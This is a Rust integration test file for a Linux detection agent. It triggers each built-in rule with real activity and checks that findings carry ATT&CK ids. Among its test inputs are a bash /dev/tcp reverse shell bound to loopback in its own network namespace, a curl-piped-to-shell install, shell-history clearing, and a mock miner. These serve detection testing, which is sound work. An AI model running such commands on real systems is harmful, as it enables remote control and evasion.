//! Detection against the real kernel: every built-in rule is triggered by really doing
//! the activity (in temporary directories, a network namespace of its own where a
//! network is needed), and its finding, with its ATT&CK id, must reach the agent's API
//! within 2 s (the issue's bound; the agent drains every 500 ms). A benign workload
//! raises nothing, a bad rule file is refused with its file and line, and an exec
//! storm through the agent is accounted for.
use std::{
    fs,
    io::{Read as _, Write as _},
    os::unix::{
        fs::{MetadataExt as _, PermissionsExt as _},
        process::CommandExt as _,
    },
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{RwLock, RwLockReadGuard, RwLockWriteGuard},
    time::{Duration, Instant},
};

use vigil_proto::v1::{AgentSelf, Finding, FindingsRequest, StatsRequest};
use vigil_tests::{collector_command, require_root, vigil_bin, KillOnDrop, Vigil};

const WORKLOAD: &str = env!("CARGO_BIN_EXE_vigil-workload");
/// The issue's bound for a finding to arrive.
const WITHIN: Duration = Duration::from_secs(2);

/// Tests run side by side under plain `cargo test`, and threads of one test process
/// share its pid, so a finding cannot tell which test caused it. Each test holds this
/// shared while its agent runs; the benign-workload test holds it alone.
static HOST: RwLock<()> = RwLock::new(());

#[expect(dead_code, reason = "the guards are held, not read")]
enum Turn {
    Shared(RwLockReadGuard<'static, ()>),
    Alone(RwLockWriteGuard<'static, ()>),
}

struct Agent {
    vigil: Vigil,
    socket: PathBuf,
    dir: tempfile::TempDir,
    _turn: Turn,
}

impl Agent {
    fn start(extra_rules: Option<&str>) -> Self {
        Self::start_with(extra_rules, None)
    }

    /// An agent while no other test in this process is doing anything.
    fn start_alone() -> Self {
        let turn = Turn::Alone(HOST.write().unwrap_or_else(|e| e.into_inner()));
        Self::launch(None, None, turn)
    }

    /// An agent with `config` (TOML) before its `[detect]` table.
    fn start_configured(config: &str) -> Self {
        let turn = Turn::Shared(HOST.read().unwrap_or_else(|e| e.into_inner()));
        Self::launch_with(None, None, config, turn)
    }

    fn start_with(extra_rules: Option<&str>, collector: Option<&str>) -> Self {
        let turn = Turn::Shared(HOST.read().unwrap_or_else(|e| e.into_inner()));
        Self::launch(extra_rules, collector, turn)
    }

    fn launch(extra_rules: Option<&str>, collector: Option<&str>, turn: Turn) -> Self {
        Self::launch_with(extra_rules, collector, "", turn)
    }

    fn launch_with(
        extra_rules: Option<&str>,
        collector: Option<&str>,
        config_head: &str,
        turn: Turn,
    ) -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let rules = dir.path().join("rules.d");
        fs::create_dir(&rules).unwrap();
        if let Some(r) = extra_rules {
            fs::write(rules.join("test.yaml"), r).unwrap();
        }
        let config = dir.path().join("agent.toml");
        fs::write(
            &config,
            format!(
                "{}{config_head}[detect]\nrules_dir = \"{}\"\n",
                collector.map_or(String::new(), |c| format!("collector = \"{c}\"\n")),
                rules.display()
            ),
        )
        .unwrap();
        let socket = dir.path().join("agent.sock");
        let data = dir.path().join("data");
        let vigil = Vigil::start(&[
            "agent",
            "--config",
            config.to_str().unwrap(),
            "--interval",
            "1s",
            "--socket",
            socket.to_str().unwrap(),
            "--data-dir",
            data.to_str().unwrap(),
        ]);
        Self {
            vigil,
            socket,
            dir,
            _turn: turn,
        }
    }

    fn findings(&self, since_ms: i64) -> Vec<Finding> {
        rt().block_on(async {
            let mut c = vigil_agent::query::api::connect(&self.socket)
                .await
                .expect("agent API");
            let (mut all, mut page_token) = (Vec::new(), String::new());
            loop {
                let page = c
                    .findings(FindingsRequest {
                        since_unix_ms: since_ms,
                        page_size: 0,
                        page_token,
                    })
                    .await
                    .expect("findings")
                    .into_inner();
                all.extend(page.findings);
                if page.next_page_token.is_empty() {
                    return all;
                }
                page_token = page.next_page_token;
            }
        })
    }

    fn stats(&self) -> AgentSelf {
        rt().block_on(async {
            let mut c = vigil_agent::query::api::connect(&self.socket)
                .await
                .expect("agent API");
            loop {
                match c.stats(StatsRequest {}).await {
                    Ok(r) => return r.into_inner().agent.unwrap_or_default(),
                    // No sample yet in the first interval.
                    Err(_) => tokio::time::sleep(Duration::from_millis(200)).await,
                }
            }
        })
    }

    /// Waits until the agent's count `what` (read by `count` from `vigil stats`) reaches
    /// `target`: the detector has taken those events, so whatever they raise is listed.
    fn wait_counted(&self, what: &str, count: impl Fn(&AgentSelf) -> u64, target: u64) {
        vigil_tests::daemons::wait_until(what, Duration::from_secs(30), || {
            count(&self.stats()) >= target
        });
    }

    /// Runs a marker exec and waits until the detector has taken it: every event before
    /// it has been decided on (the ring buffer is read in order).
    fn settle(&self) {
        let seen = self.stats().process_events;
        run(&mut Command::new("/bin/true"));
        self.wait_counted("the marker exec", |a| a.process_events, seen + 1);
    }

    /// Waits (at most WITHIN after `done`) for a finding of `rule` that `pred` accepts.
    fn expect(
        &self,
        rule: &str,
        mitre: &str,
        since_ms: i64,
        done: Instant,
        pred: impl Fn(&Finding) -> bool,
    ) -> Finding {
        loop {
            let all = self.findings(since_ms);
            if let Some(f) = all.iter().find(|f| f.rule == rule && pred(f)) {
                let took = done.elapsed();
                assert!(
                    f.mitre.iter().any(|m| m == mitre),
                    "{rule}: ATT&CK {mitre} expected in {:?}",
                    f.mitre
                );
                assert!(f.time_unix_ms >= since_ms, "{f:?}");
                assert!(!f.severity.is_empty() && f.process.is_some(), "{f:?}");
                eprintln!("{rule}: finding after {took:?}: {f:?}");
                return f.clone();
            }
            if done.elapsed() > WITHIN {
                panic!(
                    "{rule}: no finding within {WITHIN:?} of the activity; findings: {:#?}",
                    all.iter()
                        .map(|f| (
                            &f.rule,
                            f.process.as_ref().map(|p| (&p.exe, &p.cmdline)),
                            &f.details
                        ))
                        .collect::<Vec<_>>()
                );
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Runs `command` (`sh -c 'exec COMMAND'`, so the shell's pid is the command's) and
    /// waits for a finding of `rule` for that process.
    fn raises(&self, rule: &str, mitre: &str, command: &str) -> Finding {
        let since = now_ms();
        let (pid, _) = sh_ok(command);
        self.expect(rule, mitre, since, Instant::now(), |f| pid_of(f) == pid)
    }

    /// Runs `command` the same way, which must succeed, and checks that none of
    /// `rules` raised anything for it.
    fn stays_quiet(&self, rules: &[&str], command: &str) {
        let since = now_ms();
        let (pid, ok) = sh_ok(command);
        assert!(ok, "{command} failed");
        self.settle();
        for rule in rules {
            assert!(
                findings_of(self, rule, since, pid).is_empty(),
                "{rule}: {command}"
            );
        }
    }
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
}

fn now_ms() -> i64 {
    vigil_agent::units::unix_ms(std::time::SystemTime::now())
}

fn run(cmd: &mut Command) -> std::process::Output {
    let out = cmd
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    out
}

/// A directory under /tmp that other users can enter (for the set-uid test).
fn tmp_dir() -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("vigil-detect-")
        .tempdir_in("/tmp")
        .unwrap();
    fs::set_permissions(d.path(), fs::Permissions::from_mode(0o755)).unwrap();
    d
}

fn copy_exec(from: &str, to: &Path) {
    fs::copy(from, to).unwrap();
    fs::set_permissions(to, fs::Permissions::from_mode(0o755)).unwrap();
}

fn pid_of(f: &Finding) -> u32 {
    f.process.as_ref().map_or(0, |p| p.pid)
}

/// Runs the test workload with `args`; its pid and its output.
fn workload(args: &[&str]) -> (u32, std::process::Output) {
    let child = Command::new(WORKLOAD)
        .args(args)
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    (child.id(), child.wait_with_output().unwrap())
}

/// Runs `script` (sh) in a new network namespace with loopback up.
fn in_own_netns(script: &str) -> std::process::Output {
    run(Command::new("unshare").args(["-n", "sh", "-c", &format!("ip link set lo up && {script}")]))
}

macro_rules! root {
    ($name:expr) => {
        if !require_root($name) {
            return;
        }
    };
}

#[test]
fn exec_from_temp_dir() {
    root!("exec_from_temp_dir");
    let agent = Agent::start(None);
    let d = tmp_dir();
    let prog = d.path().join("payload");
    copy_exec("/bin/true", &prog);
    let since = now_ms();
    let child = Command::new(&prog).spawn().unwrap();
    let pid = child.id();
    let _ = child.wait_with_output();
    let f = agent.expect("exec-from-temp-dir", "T1204", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    let p = f.process.unwrap();
    assert_eq!(p.exe, prog.to_str().unwrap());
    assert_eq!(f.parent.unwrap().pid, std::process::id());
    // The CLI: `vigil events --since --json` prints it as one JSON object per line with
    // the fields the issue names, and `--follow` streams the next one live.
    let socket = agent.socket.to_str().unwrap();
    let out =
        run(Command::new(vigil_bin())
            .args(["events", "--since", "5m", "--json", "--socket", socket]));
    assert!(out.status.success(), "{out:?}");
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let line = lines
        .iter()
        .find(|v| v["rule"] == "exec-from-temp-dir" && v["process"]["pid"] == pid)
        .unwrap_or_else(|| panic!("{lines:?}"));
    assert_eq!(line["severity"], "high");
    assert!(line["mitre"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m == "T1204"));
    assert_eq!(line["process"]["exe"], prog.to_str().unwrap());
    assert_eq!(line["process"]["uid"], 0);
    assert!(line["process"]["cmdline"].is_string());
    assert_eq!(line["parent"]["pid"], std::process::id());
    assert!(line["time"].as_str().unwrap().ends_with('Z'));
    let mut follow = KillOnDrop(
        Command::new(vigil_bin())
            .args([
                "events", "--since", "5m", "--follow", "--json", "--socket", socket,
            ])
            .stdout(Stdio::piped())
            .stdin(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let stdout = follow.0.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for l in std::io::BufRead::lines(std::io::BufReader::new(stdout)).map_while(Result::ok) {
            let _ = tx.send(l);
        }
    });
    // `--follow` subscribes before it prints the recent findings: once the first
    // payload's finding is printed, the live stream is on.
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let l = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("the recent finding on --follow");
        let v: serde_json::Value = serde_json::from_str(&l).unwrap_or_else(|e| panic!("{e}: {l}"));
        if v["rule"] == "exec-from-temp-dir" && v["process"]["pid"] == pid {
            break;
        }
    }
    let second = d.path().join("payload2");
    copy_exec("/bin/true", &second);
    let mut child2 = Command::new(&second).spawn().unwrap();
    let pid2 = child2.id();
    child2.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let l = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("the live finding on --follow");
        let v: serde_json::Value = serde_json::from_str(&l).unwrap_or_else(|e| panic!("{e}: {l}"));
        if v["type"] == "finding"
            && v["rule"] == "exec-from-temp-dir"
            && v["process"]["pid"] == pid2
        {
            break;
        }
    }
}

#[test]
fn fileless_exec_from_memfd_and_deleted_file() {
    root!("fileless_exec_from_memfd_and_deleted_file");
    let agent = Agent::start(None);
    for mode in ["memfd-exec", "unlinked-exec"] {
        let since = now_ms();
        let (pid, out) = workload(&[mode, "/bin/true"]);
        assert!(out.status.success(), "{mode}: {out:?}");
        let f = agent.expect("fileless-exec", "T1620", since, Instant::now(), |f| {
            pid_of(f) == pid
        });
        let exe = f.process.unwrap().exe;
        if mode == "memfd-exec" {
            assert_eq!(exe, "/memfd:vigil-test (deleted)");
        } else {
            assert!(exe.ends_with(" (deleted)"), "{exe}");
        }
    }
}

#[test]
fn shell_from_network_service() {
    root!("shell_from_network_service");
    let agent = Agent::start(None);
    let d = tmp_dir();
    // A program named like the web server (the rule reads the parent's short name).
    let nginx = d.path().join("nginx");
    copy_exec("/bin/dash", &nginx);
    let since = now_ms();
    let out = run(Command::new(&nginx).args(["-c", "/bin/sh -c 'echo pwned'; true"]));
    assert!(out.status.success());
    let f = agent.expect(
        "shell-from-network-service",
        "T1190",
        since,
        Instant::now(),
        |f| f.parent.as_ref().is_some_and(|p| p.name == "nginx"),
    );
    assert_eq!(f.process.unwrap().name, "sh");
}

#[test]
fn reverse_shell_over_a_socket() {
    root!("reverse_shell_over_a_socket");
    let agent = Agent::start(None);
    let since = now_ms();
    // A listener in the namespace sends `exit` to whatever shell connects.
    let out = in_own_netns(
        "python3 -c 'import socket; s=socket.socket(); s.settimeout(60); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(); c,_=s.accept(); c.sendall(b\"exit\\n\"); c.recv(100)' & \
         for i in $(seq 300); do bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null && break; sleep 0.1; done; wait",
    );
    assert!(out.status.success(), "{out:?}");
    let f = agent.expect("reverse-shell", "T1059.004", since, Instant::now(), |_| {
        true
    });
    assert_eq!(f.process.as_ref().unwrap().name, "bash");
    assert_eq!(
        f.details.get("stdin").map(String::as_str),
        Some("socket"),
        "{f:?}"
    );
}

#[test]
fn download_piped_into_a_shell() {
    root!("download_piped_into_a_shell");
    let agent = Agent::start(None);
    // A local web server serving a script.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut c, _) = listener.accept().unwrap();
        let mut buf = [0u8; 1024];
        let _ = c.read(&mut buf);
        let body = "echo installed\n";
        let _ = write!(
            c,
            "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    });
    let since = now_ms();
    let out = run(Command::new("sh").args([
        "-c",
        &format!("curl -fsS http://127.0.0.1:{port}/install.sh | sh"),
    ]));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("installed"),
        "{out:?}"
    );
    server.join().unwrap();
    let f = agent.expect(
        "download-piped-to-shell",
        "T1105",
        since,
        Instant::now(),
        |_| true,
    );
    assert!(
        f.details
            .get("stdin_from")
            .is_some_and(|s| s.starts_with("curl")),
        "{f:?}"
    );
}

#[test]
fn ptrace_attach_to_another_process() {
    root!("ptrace_attach_to_another_process");
    let agent = Agent::start(None);
    let since = now_ms();
    let (pid, out) = workload(&["ptrace-attach"]);
    assert!(out.status.success(), "{out:?}");
    let f = agent.expect("ptrace-attach", "T1055.008", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    let target: u32 = f.details["target_pid"].parse().unwrap();
    assert_ne!(target, pid);
    assert!(f.details["target_exe"].ends_with("/sleep"), "{f:?}");
}

/// The set-uid escalation below, found as privilege-escalation-to-root (65534 -> 0).
/// Returns the program's temp dir.
fn escalation_by_nobody_is_found(agent: &Agent) -> tempfile::TempDir {
    let since = now_ms();
    let (d, pid) = setuid_root_by_nobody();
    let f = agent.expect(
        "privilege-escalation-to-root",
        "T1548",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["old_uid"], "65534");
    assert_eq!(f.details["new_uid"], "0");
    d
}

/// A set-uid root copy of the workload (in a temp dir, returned to keep it) run as
/// nobody, calling setuid(0): its pid, once it has succeeded.
fn setuid_root_by_nobody() -> (tempfile::TempDir, u32) {
    let d = tmp_dir();
    let prog = d.path().join("escalate");
    copy_exec(WORKLOAD, &prog);
    fs::set_permissions(&prog, fs::Permissions::from_mode(0o4755)).unwrap();
    let child = Command::new(&prog)
        .arg("setuid-root")
        .uid(65534)
        .gid(65534)
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let status = child.wait_with_output().unwrap().status;
    assert!(
        status.success(),
        "setuid(0) from a set-uid root program must work: {status}"
    );
    (d, pid)
}

#[test]
fn privilege_escalation_to_root_by_a_set_uid_program() {
    root!("privilege_escalation_to_root_by_a_set_uid_program");
    let agent = Agent::start(None);
    let d = escalation_by_nobody_is_found(&agent);
    let prog = d.path().join("escalate");
    // sudo and friends are the exceptions, not every set-uid program: the same call
    // by root (not an escalation) raises nothing.
    let since = now_ms();
    let out = run(Command::new(&prog).arg("setuid-root"));
    assert!(out.status.success());
    agent.settle();
    let pids: Vec<u32> = agent
        .findings(since)
        .iter()
        .filter(|f| f.rule == "privilege-escalation-to-root")
        .map(pid_of)
        .collect();
    assert!(
        pids.is_empty(),
        "root calling setuid(0) is not an escalation: {pids:?}"
    );
}

#[test]
fn kernel_module_load() {
    root!("kernel_module_load");
    let agent = Agent::start(None);
    let since = now_ms();
    // The call fails (/dev/null is no module, or the kernel has none): the attempt is what counts.
    let (pid, _) = workload(&["finit-module"]);
    let f = agent.expect(
        "kernel-module-load",
        "T1547.006",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    // The module file's name comes from the kernel (the caller may be gone already).
    assert_eq!(
        f.details.get("file").map(String::as_str),
        Some("null"),
        "{f:?}"
    );
}

/// A file removed when the test ends, even by a panic.
struct RemoveOnDrop(PathBuf);

/// Makes directory `dir` if it is missing; the guard removes it again (only then).
fn made_for_test(dir: &str) -> Option<RemoveOnDrop> {
    let dir = Path::new(dir);
    let made = !dir.exists();
    fs::create_dir_all(dir).unwrap();
    made.then(|| RemoveOnDrop(dir.to_path_buf()))
}

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0).or_else(|_| fs::remove_dir(&self.0));
    }
}

/// A directory outside /etc on the same filesystem as `path` (for hard links to it).
fn dir_on_device_of(path: &str) -> PathBuf {
    let dev = fs::metadata(path).unwrap().dev();
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    [
        home.join(".cache/vigil-tests"),
        "/var/tmp".into(),
        "/var/lib".into(),
    ]
    .into_iter()
    .find(|d| fs::create_dir_all(d).is_ok() && fs::metadata(d).is_ok_and(|m| m.dev() == dev))
    .unwrap_or_else(|| panic!("no directory on {path}'s filesystem to make a hard link in"))
}

/// Opens `path` for appending (creating it), writes nothing, and removes it again if it
/// did not exist before.
fn touch_for_write(path: &str) -> u32 {
    touch_for_write_by("sh", path)
}

/// The same by another shell (another program: not folded into an earlier finding).
fn touch_for_write_by(shell: &str, path: &str) -> u32 {
    let existed = Path::new(path).exists();
    let child = Command::new(shell)
        .args(["-c", &format!(": >> {path}")])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    if !existed {
        let _ = fs::remove_file(path);
    }
    pid
}

#[test]
fn writes_to_account_files() {
    root!("writes_to_account_files");
    // A scratch account file, named by a test rule shaped like the built-in one (whose
    // paths a unit test checks): the host's real /etc/shadow is never opened for writing.
    let scratch_dir =
        dir_on_device_of("/etc").join(format!("vigil-accounts-{}", std::process::id()));
    fs::create_dir_all(&scratch_dir).unwrap();
    let shadow = RemoveOnDrop(scratch_dir.join("shadow"));
    fs::write(&shadow.0, "root:*:19000:0:99999:7:::\n").unwrap();
    let shadow_path = shadow.0.to_str().unwrap().to_string();
    let agent = Agent::start(Some(&format!(
        "rules:
  - id: test-account-write
    description: the test's scratch account file was opened for writing or replaced
    severity: high
    mitre: [T1098]
    events: [file_write]
    condition:
      path: {{in: [{shadow_path}]}}
"
    )));
    let since = now_ms();
    let pid = touch_for_write(&shadow_path);
    let f = agent.expect("test-account-write", "T1098", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.details["path"], shadow_path);
    assert_eq!(f.details["operation"], "open_for_write");
    // The same file through a second hard link made outside the watched directory.
    let link = RemoveOnDrop(
        dir_on_device_of("/etc").join(format!("vigil-test-link-{}", std::process::id())),
    );
    fs::hard_link(&shadow.0, &link.0).unwrap();
    let since = now_ms();
    let pid = touch_for_write_by("bash", link.0.to_str().unwrap());
    drop(link);
    let f = agent.expect("test-account-write", "T1098", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.details["path"], shadow_path);
    assert!(
        f.details["opened_as"].starts_with("vigil-test-link-"),
        "{f:?}"
    );
    // Reading it is not writing it: a read, then a write whose finding must be the
    // only one since (the agent has seen the read by the time the write's finding
    // arrives).
    let since = now_ms();
    let _ = fs::read(&shadow.0);
    let pid = touch_for_write_by("dash", &shadow_path);
    agent.expect("test-account-write", "T1098", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    let all: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| f.rule == "test-account-write")
        .collect();
    assert_eq!(all.len(), 1, "the read made no finding: {all:?}");
    drop(shadow);
    let _ = fs::remove_dir(&scratch_dir);
}

#[test]
fn crontab_and_systemd_unit_tampering() {
    root!("crontab_and_systemd_unit_tampering");
    let agent = Agent::start(None);
    let unit = format!(
        "/etc/systemd/system/vigil-test-{}.service",
        std::process::id()
    );
    fs::create_dir_all("/etc/systemd/system").unwrap();
    let since = now_ms();
    let pid = touch_for_write(&unit);
    let f = agent.expect(
        "persistence-cron-or-systemd",
        "T1543.002",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], unit);
    // A cron file put in place by rename (as editors and `sed -i` do).
    let made_cron_d = !Path::new("/etc/cron.d").exists();
    fs::create_dir_all("/etc/cron.d").unwrap();
    // Directories are looked up at start and every minute: restart to pick up one
    // this test created.
    drop(agent);
    let agent = Agent::start(None);
    let staged = PathBuf::from(format!("/etc/.vigil-test-cron-{}", std::process::id()));
    fs::write(&staged, "# test\n").unwrap();
    let target = format!("/etc/cron.d/vigil-test-{}", std::process::id());
    let since = now_ms();
    let out = run(Command::new("mv").arg(&staged).arg(&target));
    assert!(out.status.success(), "{out:?}");
    let _ = fs::remove_file(&target);
    let f = agent.expect(
        "persistence-cron-or-systemd",
        "T1053.003",
        since,
        Instant::now(),
        |f| f.details.get("path") == Some(&target),
    );
    assert_eq!(f.details["operation"], "rename");
    assert_eq!(f.process.unwrap().name, "mv");
    // The same with relative paths: from inside the watched directory, from a directory
    // above it, and through directory fds (renameat).
    let me = std::process::id();
    let cases = [
        (
            "/etc/cron.d",
            format!("mv ../.vigil-test-cron-{me} vigil-test-rel-{me}"),
            format!("/etc/cron.d/vigil-test-rel-{me}"),
        ),
        (
            "/",
            format!("mv etc/.vigil-test-cron-{me} ./etc/cron.d/../cron.d/vigil-test-up-{me}"),
            format!("/etc/cron.d/vigil-test-up-{me}"),
        ),
        (
            "/tmp",
            format!(
                "python3 -c \"import os; e = os.open('/etc', os.O_RDONLY); \
                 c = os.open('/etc/cron.d', os.O_RDONLY); \
                 os.rename('.vigil-test-cron-{me}', 'vigil-test-fd-{me}', src_dir_fd=e, dst_dir_fd=c)\""
            ),
            format!("/etc/cron.d/vigil-test-fd-{me}"),
        ),
    ];
    for (cwd, script, target) in cases {
        fs::write(&staged, "# test\n").unwrap();
        let since = now_ms();
        let out = run(Command::new("sh").arg("-c").arg(&script).current_dir(cwd));
        assert!(out.status.success(), "{script}: {out:?}");
        let _ = fs::remove_file(&target);
        let f = agent.expect(
            "persistence-cron-or-systemd",
            "T1053.003",
            since,
            Instant::now(),
            |f| f.details.get("path") == Some(&target),
        );
        assert_eq!(f.details["operation"], "rename", "{script}");
    }
    if made_cron_d {
        let _ = fs::remove_dir("/etc/cron.d");
    }
}

#[test]
fn ld_so_preload_written() {
    root!("ld_so_preload_written");
    let agent = Agent::start(None);
    let since = now_ms();
    let pid = touch_for_write("/etc/ld.so.preload");
    let f = agent.expect("ld-so-preload", "T1574.006", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.severity, "critical");
}

#[test]
fn shell_history_cleared() {
    root!("shell_history_cleared");
    let agent = Agent::start(None);
    let d = tmp_dir();
    let hist = d.path().join(".bash_history");
    fs::write(&hist, "ls\n").unwrap();
    let since = now_ms();
    let out = run(Command::new("rm").arg(&hist));
    assert!(out.status.success());
    agent.expect(
        "shell-history-cleared",
        "T1070.003",
        since,
        Instant::now(),
        |f| f.process.as_ref().is_some_and(|p| p.name == "rm"),
    );
    let since = now_ms();
    run(Command::new("bash").args(["-c", "history -c"]));
    agent.expect(
        "shell-history-cleared",
        "T1070.003",
        since,
        Instant::now(),
        |f| {
            f.process
                .as_ref()
                .is_some_and(|p| p.cmdline.contains("history -c"))
        },
    );
}

#[test]
fn crypto_miner_binary_and_pool_connection() {
    root!("crypto_miner_binary_and_pool_connection");
    let agent = Agent::start(None);
    let d = tmp_dir();
    let miner = d.path().join("xmrig");
    copy_exec("/bin/true", &miner);
    let since = now_ms();
    run(Command::new(&miner).args(["-o", "stratum+tcp://pool.example:3333"]));
    agent.expect("crypto-miner", "T1496", since, Instant::now(), |f| {
        f.process.as_ref().is_some_and(|p| p.name == "xmrig")
    });
    // A connect to a stratum port, inside a namespace of its own.
    let since = now_ms();
    let out = in_own_netns(&format!("{WORKLOAD} connect 3333 </dev/null"));
    assert!(out.status.success(), "{out:?}");
    let f = agent.expect(
        "mining-pool-connection",
        "T1496",
        since,
        Instant::now(),
        |_| true,
    );
    assert_eq!(f.details["port"], "3333");
    assert_eq!(f.details["remote_addr"], "127.0.0.1");
}

#[test]
fn nsenter_into_pid_1() {
    root!("nsenter_into_pid_1");
    let agent = Agent::start(None);
    let since = now_ms();
    // Whether the kernel lets it in doesn't matter: the attempt is the finding.
    run(Command::new("nsenter").args(["-t", "1", "-m", "-u", "true"]));
    agent.expect(
        "nsenter-host-namespaces",
        "T1611",
        since,
        Instant::now(),
        |_| true,
    );
}

#[test]
fn interpreter_listening_and_shell_connecting() {
    root!("interpreter_listening_and_shell_connecting");
    let agent = Agent::start(None);
    let since = now_ms();
    let out = in_own_netns(
        "python3 -c 'import socket; s=socket.socket(); s.settimeout(60); s.bind((\"127.0.0.1\", 8081)); s.listen(); c,_=s.accept(); c.recv(10)' & \
         for i in $(seq 300); do bash -c 'echo hi > /dev/tcp/127.0.0.1/8081' 2>/dev/null && break; sleep 0.1; done; wait",
    );
    assert!(out.status.success(), "{out:?}");
    let f = agent.expect(
        "interpreter-listening",
        "T1571",
        since,
        Instant::now(),
        |_| true,
    );
    assert_eq!(f.details["port"], "8081");
    assert!(f.process.unwrap().name.starts_with("python"));
    let f = agent.expect(
        "interpreter-outbound-connection",
        "T1059.004",
        since,
        Instant::now(),
        |_| true,
    );
    assert_eq!(f.details["port"], "8081");
    assert_eq!(f.process.unwrap().name, "bash");
}

#[test]
fn a_repeating_finding_is_one_alert_with_a_count() {
    root!("a_repeating_finding_is_one_alert_with_a_count");
    let agent = Agent::start(Some(
        "rules:\n  - id: test-repeat\n    description: a test program ran\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-repeat\n    dedup: 3s\n",
    ));
    let d = tmp_dir();
    let prog = d.path().join("vigil-repeat");
    copy_exec("/bin/true", &prog);
    let since = now_ms();
    for _ in 0..5 {
        run(&mut Command::new(&prog));
    }
    let first = agent.expect("test-repeat", "T1059", since, Instant::now(), |_| true);
    assert_eq!(first.count, 1);
    // The window closes 3 s after the first: one more finding with the total.
    let last = agent.expect(
        "test-repeat",
        "T1059",
        since,
        Instant::now() + Duration::from_secs(3),
        |f| f.count > 1,
    );
    assert_eq!(last.count, 5, "{last:?}");
    assert_eq!(
        agent
            .findings(since)
            .iter()
            .filter(|f| f.rule == "test-repeat")
            .count(),
        2
    );
}

#[test]
fn a_watched_file_is_followed_through_replacement_and_hard_links() {
    root!("a_watched_file_is_followed_through_replacement_and_hard_links");
    // A file a rule names, in a directory of its own; links are made next to it.
    let base = dir_on_device_of("/etc");
    let work = tempfile::tempdir_in(&base).unwrap();
    let watched_dir = work.path().join("conf");
    fs::create_dir(&watched_dir).unwrap();
    let file = watched_dir.join("watched.conf");
    fs::write(&file, "a\n").unwrap();
    let agent = Agent::start(Some(&format!(
        "rules:\n  - id: test-file\n    description: the test file was written\n    severity: low\n    mitre: [T1098]\n    events: [file_write]\n    condition:\n      path: {}\n    dedup: 0s\n",
        file.display()
    )));
    let path = file.to_str().unwrap().to_string();
    // Replaced by rename, as editors and package managers do: a new inode.
    let staged = watched_dir.join("watched.conf.new");
    fs::write(&staged, "b\n").unwrap();
    let since = now_ms();
    assert!(run(Command::new("mv").arg(&staged).arg(&file))
        .status
        .success());
    let f = agent.expect("test-file", "T1098", since, Instant::now(), |f| {
        f.details.get("path") == Some(&path)
    });
    assert_eq!(f.details["operation"], "rename");
    // The new inode, through a hard link outside the watched directory.
    let link = RemoveOnDrop(work.path().join("second-name"));
    fs::hard_link(&file, &link.0).unwrap();
    let since = now_ms();
    let pid = touch_for_write_by("bash", link.0.to_str().unwrap());
    let f = agent.expect("test-file", "T1098", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.details["path"], path);
    assert_eq!(f.details["opened_as"], "second-name");
    // Reading through the link is not writing.
    let since = now_ms();
    let _ = fs::read(&link.0);
    agent.settle();
    assert!(agent.findings(since).iter().all(|f| f.rule != "test-file"));
}

#[test]
fn a_bad_rule_file_is_refused_and_the_last_good_rules_stay() {
    root!("a_bad_rule_file_is_refused_and_the_last_good_rules_stay");
    let good = "rules:\n  - id: test-marker\n    description: marker ran\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-marker\n    dedup: 0s\n";
    let mut agent = Agent::start(Some(good));
    let rules = agent.dir.path().join("rules.d/test.yaml");
    fs::write(&rules, "rules:\n  - id: broken\n    description: x\n    severity: low\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.nam: x\n").unwrap();
    // The CLI's own check says where and why.
    let out = run(Command::new(vigil_bin()).args([
        "rules",
        "check",
        "--dir",
        rules.parent().unwrap().to_str().unwrap(),
    ]));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("test.yaml:2:") && err.contains("unknown field `process.nam`"),
        "{err}"
    );
    let pid = agent.vigil.pid();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
